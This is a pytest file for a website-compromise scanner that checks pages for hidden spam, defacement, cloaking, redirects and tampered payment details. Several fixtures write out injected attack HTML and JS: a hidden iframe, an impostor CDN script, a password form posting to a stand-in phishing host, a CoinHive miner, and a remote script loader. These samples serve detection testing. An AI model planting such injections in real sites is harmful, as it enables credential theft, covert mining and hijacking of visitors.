"""Every check's evaluate() on recorded pages, with and without a learned baseline (no network)."""

from __future__ import annotations

from pathlib import Path

from haidang.engines.common import RedirectHop
from haidang.engines.scanner.baseline import Baseline
from haidang.engines.scanner.learn import learn
from haidang.engines.scanner.scanner import evaluate_site
from haidang.engines.scanner.types import ProbeName, SiteResult
from tests.engines.scanner.recorded import HOME, down, recorded, response, site


def _kinds(result: SiteResult) -> set[str]:
    return {f.kind for f in result.findings if f.severity.rank >= 2}


def _learned(html: str, **extra: object) -> Baseline:
    baseline = Baseline(url=HOME)
    result, view = evaluate_site(site(html, **extra), baseline)  # type: ignore[arg-type]
    assert not result.flagged
    assert view is not None
    learn(baseline, view)
    return baseline


def test_it_leaves_hard_negatives_clean_at_first_sight() -> None:
    for name in ("police_gambling_bust.html", "lottery_results.html", "scam_warning.html", "security_news.html"):
        result, _view = evaluate_site(site(recorded(name)), Baseline(url=HOME))
        assert not result.flagged, (name, result.findings)


def test_it_finds_hidden_and_linked_spam_on_a_first_scan() -> None:
    result, _view = evaluate_site(site(recorded("hidden_spam.html")), Baseline(url=HOME))
    assert {"content.hidden_spam", "content.spam_links"} <= _kinds(result)
    evidence = " ".join(f.evidence for f in result.findings)
    assert "nhacai-fb88vn.club" in evidence


def test_it_finds_a_defacement_on_a_first_scan() -> None:
    result, _view = evaluate_site(site(recorded("defaced.html")), Baseline(url=HOME))
    assert "defacement.message" in _kinds(result)


def test_it_reports_an_unreachable_site_with_the_reason() -> None:
    evidence = site("<html></html>", probes={ProbeName.DESKTOP: down(HOME)})
    result, view = evaluate_site(evidence, Baseline(url=HOME))
    assert (result.reachable, result.reason, view) == (False, "connection_refused: test", None)
    result, _ = evaluate_site(
        site("x", probes={ProbeName.DESKTOP: response(HOME, "x", status=503)}), Baseline(url=HOME)
    )
    assert (result.reachable, result.reason) == (False, "http_503")


def test_it_reports_cloaking_for_googlebot_only_spam() -> None:
    clean = recorded("police_gambling_bust.html")
    spam = clean.replace("</body>", "<p>Nhà cái uy tín kubet – đăng ký nhận 100k, link vào kubet</p></body>")
    evidence = site(clean, probes={ProbeName.GOOGLEBOT: response(HOME, spam), ProbeName.BINGBOT: response(HOME, spam)})
    result, _view = evaluate_site(evidence, Baseline(url=HOME))
    cloaking = [f for f in result.findings if f.kind == "cloaking.crawler"]
    assert cloaking
    assert set(cloaking[0].probes) == {"googlebot", "bingbot"}


def test_it_reports_redirects_for_search_visitors_only() -> None:
    hop = RedirectHop(HOME, 302, "https://nhacai.club/", "https://nhacai.club/")
    away = response(HOME, "<html><body>casino</body></html>", final="https://nhacai.club/", chain=(hop,))
    evidence = site(recorded("scam_warning.html"), probes={ProbeName.REFERER_GOOGLE_VN: away})
    result, _view = evaluate_site(evidence, Baseline(url=HOME))
    assert {"redirect.cross_domain", "cloaking.search_referer_redirect"} <= _kinds(result)


def test_it_ignores_same_site_redirects() -> None:
    hop = RedirectHop(HOME, 301, "https://portal.example.gov.vn/vi/", "https://portal.example.gov.vn/vi/")
    moved = response(HOME, recorded("scam_warning.html"), final="https://portal.example.gov.vn/vi/", chain=(hop,))
    result, _view = evaluate_site(
        site(recorded("scam_warning.html"), probes={ProbeName.DESKTOP: moved}), Baseline(url=HOME)
    )
    assert not result.flagged


def test_it_finds_injected_code() -> None:
    html = recorded("scam_warning.html").replace(
        "</body>",
        '<iframe src="https://ads-stat.top/x" width="0" height="0"></iframe>'
        '<script src="https://cdn-jquery.top/jquery.min.js"></script>'
        '<form action="https://login-verify.top/p"><input type="password"></form>'
        "<script>var m=new CoinHive.Anonymous('k');m.start();</script></body>",
    )
    result, _view = evaluate_site(site(html), Baseline(url=HOME))
    assert {"code.hidden_iframe", "code.impostor_script", "code.credential_form", "code.cryptominer"} <= _kinds(result)


def test_it_accepts_reputable_embeds_and_flags_new_unknown_scripts() -> None:
    html = recorded("scam_warning.html")
    baseline = _learned(html)
    embeds = html.replace(
        "</body>",
        '<iframe src="https://www.youtube.com/embed/x"></iframe>'
        '<script src="https://www.googletagmanager.com/gtag/js"></script></body>',
    )
    assert not evaluate_site(site(embeds), baseline)[0].flagged
    unknown = html.replace("</body>", '<script src="https://stat-counter-vn.xyz/c.js"></script></body>')
    assert "code.new_script_host" in _kinds(evaluate_site(site(unknown), baseline)[0])


def test_it_notices_a_changed_bank_account_but_not_a_new_article() -> None:
    page = recorded("police_gambling_bust.html").replace(
        "</footer>", " Số tài khoản: 1234567890123 tại Vietcombank</footer>"
    )
    baseline = _learned(page)
    assert not evaluate_site(site(page.replace("Triệt phá", "Bắt giữ")), baseline)[0].flagged
    changed = page.replace("1234567890123", "9876543210987")
    assert "tampering.bank_account" in _kinds(evaluate_site(site(changed), baseline)[0])
    phone = page.replace("0225.3842.123", "0912.345.678")
    assert "tampering.phone" in _kinds(evaluate_site(site(phone), baseline)[0])


def test_it_notices_a_modified_own_script() -> None:
    html = recorded("scam_warning.html")
    js_url = "http://portal.example.gov.vn/js/main.js"
    baseline = _learned(html, scripts={js_url: "function menu(){return 1}"})
    injected = "function menu(){return 1}\n;(function(){var s=document.createElement('script');s.src='https://cdn-stat.top/l.js';})();"
    result, _view = evaluate_site(site(html, scripts={js_url: injected}), baseline)
    assert "code.own_script_modified" in _kinds(result) or "code.script_loader" in _kinds(result)


def test_it_notices_the_identity_gone_after_a_baseline() -> None:
    baseline = _learned(recorded("police_gambling_bust.html"))
    takeover = "<html><head><title>Welcome</title></head><body><h1>New site</h1><p>Under construction</p></body></html>"
    assert "defacement.identity_gone" in _kinds(evaluate_site(site(takeover), baseline)[0])


def test_it_checks_inner_pages() -> None:
    evidence = site(recorded("scam_warning.html"), inner={HOME + "tin/1.html": recorded("hidden_spam.html")})
    result, _view = evaluate_site(evidence, Baseline(url=HOME))
    assert any(f.url == HOME + "tin/1.html" for f in result.findings if f.kind == "content.hidden_spam")


def test_it_flags_scripts_from_abused_domains_and_spam_in_noscript_at_first_sight() -> None:
    html = recorded("scam_warning.html").replace(
        "</body>",
        '<script src="https://a8k2m.xyz/s.js"></script>'
        '<noscript><a href="https://situs-gacor.example/">slot gacor maxwin daftar</a></noscript></body>',
    )
    kinds = _kinds(evaluate_site(site(html), Baseline(url=HOME))[0])
    assert {"code.suspicious_script_host", "content.spam_links"} <= kinds


def test_it_reads_event_handlers_japanese_spam_and_canonical_hijacks() -> None:
    html = recorded("scam_warning.html").replace(
        "<body>",
        "<body onload=\"window.location='https://casino-vn.top/'\">"
        '<link rel="amphtml" href="https://nhacai-amp.club/so-y-te/">'
        '<div style="color:transparent"><a href="https://brand-copy.jp.example/">スーパーコピー 激安 通販</a></div>',
    )
    kinds = _kinds(evaluate_site(site(html), Baseline(url=HOME))[0])
    assert {"redirect.javascript", "redirect.canonical_hijack", "content.spam_links"} <= kinds


def test_it_recognises_a_full_page_overlay_signed_by_someone() -> None:
    overlay = (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#000;z-index:99999">'
        "<h2>Chào admin, hẹn gặp lại</h2><p>Telegram: @shadow_phantom</p></div>"
    )
    html = recorded("scam_warning.html").replace("<body>", "<body>" + overlay)
    assert "defacement.message" in _kinds(evaluate_site(site(html), Baseline(url=HOME))[0])
    popup = overlay.replace("Chào admin, hẹn gặp lại", "Thông báo lịch nghỉ lễ").replace(
        "Telegram: @shadow_phantom", ""
    )
    clean = recorded("scam_warning.html").replace("<body>", "<body>" + popup)
    assert not evaluate_site(site(clean), Baseline(url=HOME))[0].flagged


def test_it_stops_reporting_a_finding_accepted_as_a_legitimate_change(tmp_path: Path) -> None:
    from haidang.engines.scanner.baseline import BaselineStore, accept

    evidence = site(recorded("hidden_spam.html"))
    baseline = Baseline(url=HOME)
    first, _view = evaluate_site(evidence, baseline)
    assert first.flagged
    for finding in first.findings:
        assert accept(baseline, finding.stable_key())
    store = BaselineStore(tmp_path)
    store.save(baseline)
    again, _view = evaluate_site(evidence, store.load(HOME))
    assert again.findings == ()
    other, _view = evaluate_site(site(recorded("defaced.html")), store.load(HOME))
    assert other.flagged  # only the accepted findings are silenced
